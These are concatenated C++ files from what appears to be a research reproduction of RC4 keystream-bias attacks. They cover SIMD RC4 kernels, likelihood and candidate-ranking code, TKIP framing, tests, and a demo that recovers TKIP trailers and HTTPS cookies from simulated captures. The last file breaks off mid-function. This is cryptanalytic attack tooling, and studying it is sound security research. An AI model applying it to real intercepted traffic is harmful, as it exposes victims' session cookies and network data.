double AbsabAlpha(uint64_t gap);

// Relative strength of the bias: alpha(g) = 2^-16 (1 + AbsabRelativeBias(g)).
double AbsabRelativeBias(uint64_t gap);

// Log-likelihood-ratio weight of one matching differential observation:
// log(alpha) - log((1 - alpha) / 65535). Used when aggregating counts across
// gaps into a single per-differential score.
double AbsabLogOdds(uint64_t gap);

}  // namespace rc4b

#endif  // SRC_BIASES_MANTIN_H_
