// 512-bit transposed-lane RC4 kernel (64 lanes per group). Compiled with
// -mavx512f -mavx512bw -mavx512vbmi (see CMakeLists.txt); runtime dispatch
// only selects it when cpuid reports all three. One __m512i row holds byte v
// of all 64 lanes, so the j update, both index adds and the S[i] row store
// cover 64 streams per instruction.
//
// Of the two candidate designs from the issue, this TU implements the
// gather one: the transposed layout shared with the narrower kernels, plus
// vpgatherdd for the per-lane output column S[S[i]+S[j]] and tiled emit
// through the shared 16x16 transpose ladder. The state-in-registers
// alternative (256-byte permutation in 4 zmm, 2-level vpermi2b lookups) was
// rejected at design time: with the state in registers, the swap's write
// side S[j] = old S[i] needs a masked byte insert at a DYNAMIC register
// index per lane — a kmov + branch-on-quadrant chain that serializes the
// very loop the vectors were meant to widen — and it abandons the transposed
// layout whose bit-exactness the narrower kernels already prove. The swap
// column here stays scalar for the same reason it does at width 16/32:
// writing st[j[m]][m] needs a byte scatter no x86 ISA has (dword scatters
// would clobber neighboring lanes), and the whole state is L1-resident
// (256 x 64 = 16 KiB) so the scalar column loop is load-port bound, not
// cache bound. docs/engine.md records the measured emit-path comparison.
//
// Without AVX-512 at compile time (fallback builds, or a non-x86 target)
// the TU degrades to a stub the registry reports as not compiled in.
#include <memory>

#include "src/rc4/kernel.h"

#if defined(__AVX512F__) && defined(__AVX512BW__) && defined(__AVX512VBMI__)

#include <immintrin.h>

#include "src/rc4/kernel_lanes.h"
#include "src/rc4/kernel_x86_tile.h"

namespace rc4b {
namespace {

struct Avx512 {
  static constexpr size_t kWidth = 64;
  using Reg = __m512i;
  static Reg Load(const uint8_t* p) { return _mm512_load_si512(p); }
  static void Store(uint8_t* p, Reg v) { _mm512_store_si512(p, v); }
  static Reg Add8(Reg a, Reg b) { return _mm512_add_epi8(a, b); }
  static Reg Zero() { return _mm512_setzero_si512(); }
  static Reg Set1(uint8_t v) { return _mm512_set1_epi8(static_cast<char>(v)); }

  // Output-column gather: row[m] = st[idx[m] * 64 + m]. Four vpgatherdd over
  // 16 lanes each (dword reads overrun st by <= 3 bytes into the kernel's
  // gather_pad_); vpmovdb truncates the gathered dwords straight to the 16
  // wanted low bytes. Full-mask maskz/mask intrinsic forms throughout: gcc's
  // unmasked forms pass an undefined merge vector that -Wmaybe-uninitialized
  // flags under -Werror builds.
  static void GatherRow(const uint8_t* st, const uint8_t* idx, uint8_t* row) {
    constexpr __mmask16 kAll = static_cast<__mmask16>(0xffff);
    const __m512i lane = _mm512_setr_epi32(0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10,
                                           11, 12, 13, 14, 15);
    for (int g = 0; g < 4; ++g) {
      const __m512i iv = _mm512_maskz_cvtepu8_epi32(
          kAll,
          _mm_loadu_si128(reinterpret_cast<const __m128i*>(idx + 16 * g)));
      const __m512i offsets = _mm512_add_epi32(
          _mm512_maskz_slli_epi32(kAll, iv, 6),
          _mm512_add_epi32(lane, _mm512_set1_epi32(16 * g)));
      const __m512i dwords = _mm512_mask_i32gather_epi32(
          _mm512_setzero_si512(), kAll, offsets, st, 1);
      _mm_storeu_si128(reinterpret_cast<__m128i*>(row + 16 * g),
                       _mm512_maskz_cvtepi32_epi8(kAll, dwords));
    }
  }

  static void Transpose16x16(const uint8_t* src, size_t src_stride, uint8_t* dst,
                             size_t dst_stride) {
    TransposeBlock16x16(src, src_stride, dst, dst_stride);
  }
};

}  // namespace

bool Avx512KernelCompiled() { return true; }

std::unique_ptr<Rc4LaneKernel> MakeAvx512Kernel(size_t width) {
  if (width != Avx512::kWidth) {
    return nullptr;
  }
  return std::make_unique<TransposedLaneKernel<Avx512>>();
}

}  // namespace rc4b

#else  // !AVX-512

namespace rc4b {

bool Avx512KernelCompiled() { return false; }

std::unique_ptr<Rc4LaneKernel> MakeAvx512Kernel(size_t /*width*/) { return nullptr; }

}  // namespace rc4b

#endif  // AVX-512
