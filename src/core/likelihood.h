// Bayesian plaintext likelihood estimation (Sect. 4.1–4.3 of the paper).
//
// All likelihoods are computed and combined in the log domain for numeric
// stability, as the paper recommends. Conventions:
//   * A "single-byte table" is 256 log-likelihoods lambda_mu.
//   * A "double-byte table" is 65536 log-likelihoods lambda_{mu1,mu2} indexed
//     mu1 * 256 + mu2.
//   * Ciphertext statistics are raw counts: how often each ciphertext byte
//     (or byte pair / differential pair) value was observed.
#ifndef SRC_CORE_LIKELIHOOD_H_
#define SRC_CORE_LIKELIHOOD_H_

#include <cmath>
#include <cstdint>
#include <span>
#include <vector>

#include "src/biases/fluhrer_mcgrew.h"

namespace rc4b {

// Floor applied to probabilities before taking logs. A zero-probability cell
// would yield log(0) = -inf, and a zero count times -inf is NaN — which
// silently poisons every lambda it is summed into. The floor plays the same
// role as the +1 Laplace smoothing used when models are estimated from
// counts (src/tkip/tsc_model.cc): it is far below any smoothed probability
// (1 / (N + 256) ≈ 4e-6 even at N = 2^18 keys), so estimated models are
// unaffected and only genuinely degenerate cells are clamped.
inline constexpr double kMinProbability = 1e-12;

// log(max(p, kMinProbability)): finite for every p >= 0.
inline double SafeLog(double p) {
  return std::log(p < kMinProbability ? kMinProbability : p);
}

// Blocked XOR-correlation kernel shared by the likelihood hot loops:
//   lambda[mu] += sum_c weights[c] * log_p[c XOR mu]   for all mu in 0..255.
// All three 256-double rows are L1-resident; the kernel unrolls mu four wide
// (each mu keeps its own accumulator, summed in ascending-c order, so results
// are bit-identical to the naive loop) and skips zero-weight cells, which
// also keeps a -inf in log_p from turning 0 * -inf into NaN.
void XorCorrelate256(const double* weights, const double* log_p, double* lambda);

// Elementwise SafeLog() of a probability vector (any size).
std::vector<double> LogProbabilities(std::span<const double> probabilities);

// Single-byte likelihood, formula (11)/(12):
//   lambda_mu = sum_c counts[c] * log_p[c XOR mu].
// `counts[c]` is the number of ciphertexts whose byte at this position is c;
// `log_p` is the (log) keystream distribution at this position.
std::vector<double> SingleByteLogLikelihood(std::span<const uint64_t> counts,
                                            std::span<const double> log_p);

// Dense double-byte likelihood, formula (13): counts and log_p are 65536-cell
// tables indexed c1 * 256 + c2 / k1 * 256 + k2. O(2^32); used for validation.
// Evaluated as 2^16 blocked XorCorrelate256 calls over (mu1, c1) pairs so
// every inner product runs on L1-resident rows.
std::vector<double> DoubleByteLogLikelihoodDense(std::span<const uint64_t> counts,
                                                 std::span<const double> log_p);

// Sparse double-byte likelihood, the optimization of formula (15): all
// keystream pairs share probability `u` except for the `biased_cells`.
// Only O(|biased| * 2^16) work — ~2^19 for the Fluhrer–McGrew set, matching
// the paper's complexity claim.
std::vector<double> DoubleByteLogLikelihoodSparse(std::span<const uint64_t> counts,
                                                  uint64_t total,
                                                  const SparseDigraphModel& model);

// ABSAB differential likelihood, formulas (20)–(24). `diff_counts[d]` counts
// ciphertext differentials with value d (= d1 * 256 + d2); `known` is the
// known plaintext pair (mu'1 * 256 + mu'2); `alpha` = AbsabAlpha(gap).
// Returns a double-byte table over the *unknown* pair (mu1, mu2).
std::vector<double> AbsabLogLikelihood(std::span<const uint64_t> diff_counts,
                                       uint64_t total, uint16_t known, double alpha);

// Combines likelihood estimates from multiple bias types by adding their log
// tables — formula (25). Tables must have equal size.
void CombineInPlace(std::span<double> accumulator, std::span<const double> other);

// argmax index of a table; 0 for an empty table.
size_t ArgMax(std::span<const double> table);

}  // namespace rc4b

#endif  // SRC_CORE_LIKELIHOOD_H_
