#include "src/tkip/frame.h"

#include <cstring>

#include "src/crypto/crc32.h"
#include "src/rc4/rc4.h"

namespace rc4b {

Bytes TkipTrailer(const TkipPeer& peer, std::span<const uint8_t> msdu) {
  // Michael authenticates DA || SA || priority || 0^3 || payload.
  const auto header = MichaelHeader(peer.da, peer.sa, peer.priority);
  Bytes authenticated(header.begin(), header.end());
  authenticated.insert(authenticated.end(), msdu.begin(), msdu.end());
  const auto mic = MichaelMic(peer.mic_key, authenticated);

  Bytes trailer(mic.begin(), mic.end());
  // ICV: CRC-32 over MSDU || MIC, stored little-endian (as in WEP).
  Bytes icv_input(msdu.begin(), msdu.end());
  icv_input.insert(icv_input.end(), mic.begin(), mic.end());
  const uint32_t icv = Crc32(icv_input);
  trailer.resize(kTkipTrailerSize);
  StoreLe32(icv, trailer.data() + 8);
  return trailer;
}

TkipFrame TkipEncapsulate(const TkipPeer& peer, std::span<const uint8_t> msdu,
                          uint64_t tsc) {
  Bytes plaintext(msdu.begin(), msdu.end());
  const Bytes trailer = TkipTrailer(peer, msdu);
  plaintext.insert(plaintext.end(), trailer.begin(), trailer.end());

  const Rc4PacketKey key = TkipMixKey(peer.tk, peer.ta, tsc);
  TkipFrame frame;
  frame.tsc = tsc;
  frame.ciphertext.resize(plaintext.size());
  Rc4 rc4(key);
  rc4.Process(plaintext, frame.ciphertext);
  return frame;
}

std::optional<Bytes> TkipDecapsulate(const TkipPeer& peer, const TkipFrame& frame) {
  if (frame.ciphertext.size() < kTkipTrailerSize) {
    return std::nullopt;
  }
  const Rc4PacketKey key = TkipMixKey(peer.tk, peer.ta, frame.tsc);
  Bytes plaintext(frame.ciphertext.size());
  Rc4 rc4(key);
  rc4.Process(frame.ciphertext, plaintext);

  const size_t msdu_size = plaintext.size() - kTkipTrailerSize;
  const Bytes msdu(plaintext.begin(), plaintext.begin() + msdu_size);
  const Bytes expected = TkipTrailer(peer, msdu);
  if (std::memcmp(expected.data(), plaintext.data() + msdu_size,
                  kTkipTrailerSize) != 0) {
    return std::nullopt;
  }
  return msdu;
}

}  // namespace rc4b
