// Bench-driven kernel autotuner: sweeps (kernel, lane width, batch_keys) on
// the host, keeps only configurations that are bit-exact against the scalar
// Rc4 oracle, and caches the fastest one for the engines to consume.
//
// The paper generated its statistics on ~80 heterogeneous machines; which
// kernel/width/batch combination is fastest is a per-host property (cache
// sizes, SIMD ISA, core width), so the tuner runs ON the deployment host —
// `tools/autotune` is the CLI, and sharded campaigns should run it once per
// machine before `grid_gen` (docs/store.md). The cached choice is consumed
// by ResolveKernelChoice (src/rc4/kernel_registry.h) whenever dispatch is
// on auto: export RC4B_AUTOTUNE_CACHE=<file written by tools/autotune>.
//
// Everything here is deterministic except the timing itself: candidate
// enumeration follows registry order, verification uses seeded keys, and
// the cache file round-trips exactly (tests/rc4/autotune_test.cc).
#ifndef SRC_RC4_AUTOTUNE_H_
#define SRC_RC4_AUTOTUNE_H_

#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "src/common/io.h"
#include "src/rc4/kernel.h"
#include "src/rc4/kernel_registry.h"

namespace rc4b {

// One sweep point. batch_keys uses the engine's meaning (keystreams per
// generated batch); width is the kernel's lane count.
struct AutotuneCandidate {
  std::string kernel;
  size_t width = 0;
  size_t batch_keys = 0;

  bool operator==(const AutotuneCandidate&) const = default;
};

// Deterministic candidate enumeration: every Available() kernel in `kernels`
// (registry order) x every supported width (ascending) x every batch size
// (given order, deduplicated upstream by the caller if desired). The scalar
// kernel's width-1 point is included — it is the baseline every speedup in
// the report is relative to.
std::vector<AutotuneCandidate> EnumerateAutotuneCandidates(
    std::span<const KernelDesc> kernels, std::span<const size_t> batch_sizes);

// Verifies a kernel instance against the scalar Rc4 oracle: seeded keys,
// lengths {1, 16, 256, 513}, drops {1, 256, 1024}, and split generation
// with state carry. Any mismatching byte returns false — the tuner refuses
// to even time a kernel that fails this (and reports it loudly).
bool KernelMatchesScalar(Rc4LaneKernel& kernel, uint64_t seed);

// A measured candidate. ks_per_s is keystreams (keys) per second through
// the real RunKeystreamEngine on one worker; bit_exact is the
// KernelMatchesScalar verdict (false => ks_per_s is still reported but the
// candidate is never picked).
struct AutotuneResult {
  AutotuneCandidate candidate;
  double ks_per_s = 0.0;
  bool bit_exact = false;
};

struct AutotuneOptions {
  uint64_t keys_per_probe = 1 << 15;  // keys generated per timing probe
  size_t keystream_length = 256;      // bytes per key (consec512-style)
  int repeats = 3;                    // probes per candidate; best is kept
  uint64_t seed = 1;                  // keygen + verification seed
  std::vector<size_t> batch_sizes = {64, 256, 1024};
};

// Runs the full sweep over `kernels` (typically KernelRegistry()). Every
// candidate is verified, then timed `repeats` times; results keep
// enumeration order.
std::vector<AutotuneResult> RunAutotuneSweep(const AutotuneOptions& options,
                                             std::span<const KernelDesc> kernels);

// The tuner's verdict, as cached on disk: the winning configuration plus
// the context that scopes its validity (a choice is only trusted on the
// host that measured it, with the kernel still available).
struct AutotuneChoice {
  std::string kernel;
  size_t width = 0;
  size_t batch_keys = 0;
  double ks_per_s = 0.0;
  std::string host;
  std::string cpu_features;

  bool operator==(const AutotuneChoice&) const = default;
};

// Fastest bit-exact result, or nullopt when none qualified.
std::optional<AutotuneChoice> PickBestChoice(std::span<const AutotuneResult> results);

// Cache persistence: small text file ("rc4b-autotune 1" header, one
// "key value" line per field), written atomically. Load returns nullopt on
// any missing/malformed field (a corrupt cache must never steer dispatch).
IoStatus SaveAutotuneChoice(const std::string& path, const AutotuneChoice& choice);
std::optional<AutotuneChoice> LoadAutotuneChoice(const std::string& path);

// Hostname used to scope cached choices (same identity JsonTrajectory
// records in BENCH_*.json).
std::string AutotuneHostname();

// The cached choice dispatch may trust right now: $RC4B_AUTOTUNE_CACHE is
// set, the file parses, the host matches, and the kernel is registered,
// available, and supports the cached width. Anything else returns nullopt
// (with a once-per-process stderr note when a cache was present but
// rejected). Consumed by ResolveKernelChoice and by the engines' batch_keys
// auto mode.
std::optional<AutotuneChoice> ValidCachedAutotuneChoice();

}  // namespace rc4b

#endif  // SRC_RC4_AUTOTUNE_H_
