// scenario_tour: the unified recovery pipeline in one sitting.
//
// Every attack in this repository is a parameterization of one algorithm —
// accumulate ciphertext statistics, build per-position likelihoods, walk
// candidates in decreasing likelihood, verify against an oracle. The
// scenario registry (src/recovery/scenario.h) names those
// parameterizations; this example lists the registry and runs a small tour
// through one scenario of each family at laptop scale:
//
//   * tkip-trailer-demo   — Sect. 5 MIC+ICV decryption (CRC verification),
//     registered here on top of the built-ins to show how callers add their
//     own parameterizations (an uncalibrated small model, so the demo
//     recovers the trailer in seconds; the built-in tkip-trailer keeps the
//     honest calibrated signal and needs Fig. 8-scale captures)
//   * cookie-hex-8-gap32  — Sect. 6 brute force of an 8-char hex token
//   * singlebyte-beyond256 — Sect. 3.3.3 recovery past keystream byte 256
//
// The same scenarios run at paper scale from bench_scenarios, and their
// worker-count bit-exactness is pinned by tests/recovery/.
#include <cstdio>

#include "src/common/flags.h"
#include "src/recovery/scenario.h"
#include "src/tls/cookie_attack.h"

using namespace rc4b;

int main(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "trials",
                            .count_default = "4",
                            .count_help = "simulated attacks per scenario",
                            .seed_default = "7"};
  FlagSet flags("Tour of the recovery scenario registry");
  DefineScaleFlags(flags, scale);
  if (!flags.Parse(argc, argv)) {
    return 0;
  }
  const ScaleFlagValues scale_values = GetScaleFlags(flags, scale);

  std::printf("built-in scenarios:\n");
  for (const recovery::Scenario* scenario :
       recovery::ScenarioRegistry::Builtin().List()) {
    std::printf("  %-24s %s\n", scenario->name().c_str(),
                scenario->description().c_str());
  }

  // A local registry with the built-ins' factories: exactly what a new
  // workload does to plug itself into the pipeline (docs/recovery.md). The
  // demo variant skips the bias calibration, so the small model's sampling
  // noise acts as an (inflated) signal and the attack completes in seconds.
  recovery::ScenarioRegistry registry;
  recovery::TkipTrailerScenarioConfig demo;
  demo.target_bias_rms = 0.0;
  demo.default_model_keys = 1 << 10;
  demo.default_samples = 1 << 14;
  demo.default_budget = 1 << 20;
  registry.Register(recovery::MakeTkipTrailerScenario(
      "tkip-trailer-demo",
      "laptop-scale Sect. 5 demo: uncalibrated 2^10-key model", demo));
  recovery::CookieScenarioConfig hex8;
  hex8.cookie_length = 8;
  hex8.alphabet = CookieAlphabetHex();
  hex8.max_gap = 32;
  hex8.default_samples = uint64_t{1} << 32;
  hex8.default_budget = uint64_t{1} << 17;
  registry.Register(recovery::MakeCookieScenario(
      "cookie-hex-8-gap32", "8-char hex token, 32-gap ABSAB budget",
      std::move(hex8)));
  registry.Register(recovery::MakeSingleByteScenario(
      "singlebyte-beyond256", "recovery past keystream byte 256",
      recovery::SingleByteScenarioConfig{}));

  recovery::ScenarioParams params;
  params.trials = scale_values.count;
  params.workers = scale_values.workers;
  params.seed = scale_values.seed;
  params.interleave = scale_values.interleave;
  params.kernel = scale_values.kernel;

  for (const recovery::Scenario* scenario : registry.List()) {
    std::printf("\nrunning %s (%llu trials)...\n", scenario->name().c_str(),
                static_cast<unsigned long long>(params.trials));
    const auto outcome = scenario->Run(params);
    std::printf("  within budget: %llu/%llu   truth in top-2: %llu/%llu\n",
                static_cast<unsigned long long>(outcome.budget_wins),
                static_cast<unsigned long long>(outcome.trials),
                static_cast<unsigned long long>(outcome.exact_wins),
                static_cast<unsigned long long>(outcome.trials));
  }
  std::printf("\nevery stop above ran capture -> likelihood source -> "
              "candidate traversal -> verification through one engine; see "
              "docs/recovery.md for how to add your own scenario.\n");
  return 0;
}
