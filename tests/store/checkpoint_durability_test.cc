// Checkpoint durability contract (docs/orchestrate.md): a checkpoint the
// runner reports committed must survive a host dying in the very next
// instruction. WriteGridFileDurable therefore fsyncs the file before the
// rename and the parent directory after it — observed here through the
// fault injector's event counters, since the syscalls themselves are
// invisible to a test — and a worker SIGKILLed right after a checkpoint
// resumes from exactly that checkpoint, bit-identically.
#include <csignal>
#include <cstdlib>
#include <filesystem>
#include <string>

#include <sys/wait.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include "src/common/fault_injector.h"
#include "src/store/grid_file.h"
#include "src/store/manifest.h"
#include "src/store/merge.h"
#include "src/store/shard_runner.h"

namespace rc4b::store {
namespace {

// Fresh per invocation: the kill/resume test asserts on which checkpoint
// and final files exist, so leftovers from a previous run must go.
std::string FreshDir(const char* name) {
  const std::string dir = std::string(::testing::TempDir()) + "/" + name;
  std::filesystem::remove_all(dir);
  MakeDirs(dir);
  return dir;
}

GridMeta SmallGrid() {
  GridMeta grid;
  grid.kind = GridKind::kConsecutive;
  grid.seed = 17;
  grid.key_begin = 0;
  grid.key_end = 0x1000;
  grid.rows = 8;
  return grid;
}

TEST(CheckpointDurabilityTest, DurableWriteSyncsFileAndParentDirectory) {
  const std::string dir = FreshDir("durability-sync");
  const GridMeta grid = SmallGrid();
  const StoredGrid data = GenerateStoredGrid(grid, 1, 0);

  FaultInjector::ResetEventsForTest();
  ASSERT_TRUE(WriteGridFile(dir + "/plain.grid", data.meta, data.cells).ok());
  EXPECT_EQ(FaultInjector::EventCount("fsync-file"), 0u);
  EXPECT_EQ(FaultInjector::EventCount("fsync-dir"), 0u);

  ASSERT_TRUE(
      WriteGridFileDurable(dir + "/durable.grid", data.meta, data.cells).ok());
  EXPECT_GE(FaultInjector::EventCount("fsync-file"), 1u);
  EXPECT_GE(FaultInjector::EventCount("fsync-dir"), 1u);

  // Durability changes when bytes are safe, never which bytes: both files
  // read back identically.
  StoredGrid plain;
  StoredGrid durable;
  ASSERT_TRUE(ReadGridFile(dir + "/plain.grid", &plain).ok());
  ASSERT_TRUE(ReadGridFile(dir + "/durable.grid", &durable).ok());
  EXPECT_TRUE(CheckGridsEqual(plain, durable, "plain", "durable").ok());
}

TEST(CheckpointDurabilityTest, SigkillAfterCheckpointResumesBitExactly) {
  const std::string dir = FreshDir("durability-kill");
  const GridMeta grid = SmallGrid();
  const Manifest manifest = PlanShards(grid, 1, dir + "/k");
  const std::string manifest_path = dir + "/k.manifest";
  ASSERT_TRUE(WriteManifest(manifest_path, manifest).ok());

  ShardRunOptions options;
  options.checkpoint_keys = 0x400;
  options.workers = 1;

  // The child arms kill-at-checkpoint=2 and runs the shard; the injector
  // raises SIGKILL immediately after the second checkpoint commits durably —
  // the exact window the fsyncs exist for.
  const pid_t pid = ::fork();
  ASSERT_GE(pid, 0);
  if (pid == 0) {
    ::setenv("RC4B_FAULTS", "kill-at-checkpoint=2", 1);
    FaultInjector::Instance().ReloadFromEnv();
    ShardRunResult result;
    const IoStatus status = RunShard(manifest, manifest_path, 0, options, &result);
    ::_exit(status.ok() ? 0 : 2);  // reached only if the fault failed to fire
  }
  int wait_status = 0;
  ASSERT_EQ(::waitpid(pid, &wait_status, 0), pid);
  ASSERT_TRUE(WIFSIGNALED(wait_status));
  EXPECT_EQ(WTERMSIG(wait_status), SIGKILL);

  // The surviving checkpoint covers exactly two steps, no torn tail.
  StoredGrid checkpoint;
  ASSERT_TRUE(
      ReadGridFile(CheckpointPath(manifest.shards[0].path), &checkpoint).ok());
  EXPECT_EQ(checkpoint.meta.key_end, 2 * options.checkpoint_keys);

  // Resuming in-process finishes the shard bit-identically to a straight run.
  ShardRunResult result;
  ASSERT_TRUE(RunShard(manifest, manifest_path, 0, options, &result).ok());
  EXPECT_TRUE(result.finished);
  EXPECT_TRUE(result.resumed);
  EXPECT_EQ(result.keys_completed, grid.keys());

  StoredGrid final_grid;
  ASSERT_TRUE(ReadGridFile(manifest.shards[0].path, &final_grid).ok());
  const StoredGrid reference = GenerateStoredGrid(grid, 1, 0);
  EXPECT_TRUE(
      CheckGridsEqual(reference, final_grid, "reference", "resumed").ok());
}

}  // namespace
}  // namespace rc4b::store
