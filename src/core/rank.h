// Candidate-rank computation.
//
// The paper's Fig. 8–10 evaluate success rates with candidate lists of up to
// ~2^30 entries. Materializing such lists is infeasible (tens of GB), but the
// success criterion only needs the *rank* of the true plaintext: the number
// of candidates with strictly higher likelihood. Because likelihood scores
// are sums of per-position (or per-transition) terms, ranks can be counted
// exactly with a histogram-convolution dynamic program over quantized scores.
//
// Quantization gives a [lower, upper] bracket on the rank: candidates whose
// quantized score ties the truth's bin are counted in `upper` only. Bin width
// adapts to the distance between the best possible score and the truth.
#ifndef SRC_CORE_RANK_H_
#define SRC_CORE_RANK_H_

#include <cstdint>
#include <span>
#include <vector>

#include "src/core/candidates.h"

namespace rc4b {

struct RankBracket {
  double lower = 0.0;  // count with score strictly above the truth's bin
  double upper = 0.0;  // plus candidates tying the truth's bin
  // Midpoint estimate used by the benchmarks.
  double estimate() const { return 0.5 * (lower + upper); }
};

// Rank of `truth` among all 256^L sequences under independent per-position
// scores. `bins` trades accuracy for time (default suits 12-byte TKIP runs).
RankBracket IndependentRank(const SingleByteTables& tables,
                            std::span<const uint8_t> truth, size_t bins = 1 << 14);

// Rank of the inner plaintext `truth` among all |alphabet|^L sequences under
// Markov transition scores with known boundary bytes (Algorithm 2's model).
// `transitions` has |truth| + 1 tables (m1 -> P_0, ..., P_last -> m_last).
RankBracket MarkovRank(const DoubleByteTables& transitions, uint8_t m1,
                       uint8_t m_last, std::span<const uint8_t> truth,
                       std::span<const uint8_t> alphabet, size_t bins = 1 << 12);

// Viterbi: the single most likely inner plaintext under the same model.
Bytes MarkovBest(const DoubleByteTables& transitions, uint8_t m1, uint8_t m_last,
                 size_t inner_length, std::span<const uint8_t> alphabet);

}  // namespace rc4b

#endif  // SRC_CORE_RANK_H_
