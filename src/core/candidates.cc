#include "src/core/candidates.h"

#include <algorithm>
#include <array>
#include <cassert>
#include <cmath>
#include <numeric>

namespace rc4b {

namespace {

// Backpointer entry shared by both list algorithms.
struct Entry {
  double score;
  uint8_t value;      // byte appended at this round
  uint32_t prev;      // index into the previous round's entry list
};

// Heap node for merging sorted candidate streams: (previous-entry index,
// value/stream identifier). Defined at namespace scope so std::priority_queue
// can find operator< (hidden friends of function-local classes are not
// visible to name lookup).
struct StreamHeapNode {
  double score;
  uint32_t prev_index;
  uint32_t stream;
  friend bool operator<(const StreamHeapNode& a, const StreamHeapNode& b) {
    return a.score < b.score;
  }
};

std::vector<uint8_t> FullAlphabet() {
  std::vector<uint8_t> a(256);
  std::iota(a.begin(), a.end(), 0);
  return a;
}

}  // namespace

std::vector<Candidate> GenerateCandidatesSingle(const SingleByteTables& likelihoods,
                                                size_t n) {
  const size_t length = likelihoods.size();
  assert(length > 0);

  // rounds[r] holds the candidates of length r+1 in decreasing likelihood,
  // as backpointer entries into rounds[r-1].
  std::vector<std::vector<Entry>> rounds(length);

  std::vector<Entry> previous{{0.0, 0, 0}};  // the empty prefix
  for (size_t r = 0; r < length; ++r) {
    assert(likelihoods[r].size() == 256);
    // Sort byte values by their log-likelihood once; then merge the 256
    // streams (previous candidate index, value rank) with a heap. This is
    // Algorithm 1 with the per-value position pointers pos(mu) made explicit.
    std::array<std::pair<double, uint8_t>, 256> sorted_values;
    for (size_t mu = 0; mu < 256; ++mu) {
      sorted_values[mu] = {likelihoods[r][mu], static_cast<uint8_t>(mu)};
    }
    std::sort(sorted_values.begin(), sorted_values.end(),
              [](const auto& a, const auto& b) { return a.first > b.first; });

    std::priority_queue<StreamHeapNode> heap;
    for (uint32_t vr = 0; vr < 256; ++vr) {
      heap.push(StreamHeapNode{previous[0].score + sorted_values[vr].first, 0, vr});
    }
    std::vector<Entry>& current = rounds[r];
    const size_t want = std::min<size_t>(n, previous.size() * 256);
    while (current.size() < want && !heap.empty()) {
      const StreamHeapNode top = heap.top();
      heap.pop();
      current.push_back(Entry{top.score, sorted_values[top.stream].second,
                              top.prev_index});
      if (top.prev_index + 1 < previous.size()) {
        heap.push(StreamHeapNode{previous[top.prev_index + 1].score +
                                     sorted_values[top.stream].first,
                                 top.prev_index + 1, top.stream});
      }
    }
    previous = current;
  }

  // Reconstruct plaintexts by walking backpointers.
  std::vector<Candidate> out;
  out.reserve(rounds.back().size());
  for (size_t i = 0; i < rounds.back().size(); ++i) {
    Candidate c;
    c.log_likelihood = rounds.back()[i].score;
    c.plaintext.resize(length);
    uint32_t index = static_cast<uint32_t>(i);
    for (size_t r = length; r-- > 0;) {
      c.plaintext[r] = rounds[r][index].value;
      index = rounds[r][index].prev;
    }
    out.push_back(std::move(c));
  }
  return out;
}

LazyCandidateEnumerator::LazyCandidateEnumerator(const SingleByteTables& likelihoods)
    : length_(likelihoods.size()) {
  sorted_.resize(length_);
  double best_score = 0.0;
  for (size_t r = 0; r < length_; ++r) {
    assert(likelihoods[r].size() == 256);
    sorted_[r].resize(256);
    for (size_t mu = 0; mu < 256; ++mu) {
      sorted_[r][mu] = {likelihoods[r][mu], static_cast<uint8_t>(mu)};
    }
    std::sort(sorted_[r].begin(), sorted_[r].end(),
              [](const auto& a, const auto& b) { return a.first > b.first; });
    best_score += sorted_[r][0].first;
  }
  heap_.push(Node{best_score, std::vector<uint8_t>(length_, 0)});
}

Candidate LazyCandidateEnumerator::Next() {
  assert(!heap_.empty());
  const Node top = heap_.top();
  heap_.pop();
  ++popped_;

  // Successor rule: from a node, bump the rank at every position at or after
  // the last non-zero rank position. This generates each rank vector exactly
  // once (a vector's unique parent decrements its final non-zero rank).
  size_t first_successor_pos = 0;
  for (size_t r = 0; r < length_; ++r) {
    if (top.ranks[r] != 0) {
      first_successor_pos = r;
    }
  }
  for (size_t r = first_successor_pos; r < length_; ++r) {
    if (top.ranks[r] == 255) {
      continue;
    }
    Node child = top;
    child.score += sorted_[r][top.ranks[r] + 1].first - sorted_[r][top.ranks[r]].first;
    ++child.ranks[r];
    heap_.push(std::move(child));
  }

  Candidate c;
  c.log_likelihood = top.score;
  c.plaintext.resize(length_);
  for (size_t r = 0; r < length_; ++r) {
    c.plaintext[r] = sorted_[r][top.ranks[r]].second;
  }
  return c;
}

std::vector<Candidate> GenerateCandidatesDouble(const DoubleByteTables& transitions,
                                                uint8_t m1, uint8_t m_last, size_t n,
                                                std::span<const uint8_t> alphabet) {
  const std::vector<uint8_t> full =
      alphabet.empty() ? FullAlphabet() : std::vector<uint8_t>();
  const std::span<const uint8_t> a = alphabet.empty() ? std::span<const uint8_t>(full)
                                                      : alphabet;
  const size_t inner = transitions.size() - 1;  // number of unknown bytes
  assert(inner >= 1);

  // lists[t][value_index] = N-best entries for prefixes ending in a[value_index]
  // after consuming transition t. Entries point into lists[t-1].
  // An entry's `prev` packs (previous value index, index in its list).
  struct ListEntry {
    double score;
    uint32_t prev_value_index;
    uint32_t prev_list_index;
  };
  std::vector<std::vector<std::vector<ListEntry>>> lists(inner);

  // Transition 0: m1 -> first unknown byte.
  assert(transitions[0].size() == 65536);
  lists[0].resize(a.size());
  for (size_t vi = 0; vi < a.size(); ++vi) {
    const double score = transitions[0][static_cast<size_t>(m1) * 256 + a[vi]];
    lists[0][vi].push_back(ListEntry{score, 0, 0});
  }

  // Transitions between unknown bytes.
  for (size_t t = 1; t < inner; ++t) {
    assert(transitions[t].size() == 65536);
    lists[t].resize(a.size());
    for (size_t vi = 0; vi < a.size(); ++vi) {
      const uint8_t mu2 = a[vi];
      // Merge |A| sorted streams: stream ui yields
      // lists[t-1][ui][j].score + log lambda_t(a[ui], mu2) for j = 0, 1, ...
      std::priority_queue<StreamHeapNode> heap;
      for (uint32_t ui = 0; ui < a.size(); ++ui) {
        if (!lists[t - 1][ui].empty()) {
          const double trans =
              transitions[t][static_cast<size_t>(a[ui]) * 256 + mu2];
          heap.push(StreamHeapNode{lists[t - 1][ui][0].score + trans, 0, ui});
        }
      }
      auto& out_list = lists[t][vi];
      while (out_list.size() < n && !heap.empty()) {
        const StreamHeapNode top = heap.top();
        heap.pop();
        out_list.push_back(ListEntry{top.score, top.stream, top.prev_index});
        const auto& src = lists[t - 1][top.stream];
        if (top.prev_index + 1 < src.size()) {
          const double trans =
              transitions[t][static_cast<size_t>(a[top.stream]) * 256 + mu2];
          heap.push(StreamHeapNode{src[top.prev_index + 1].score + trans,
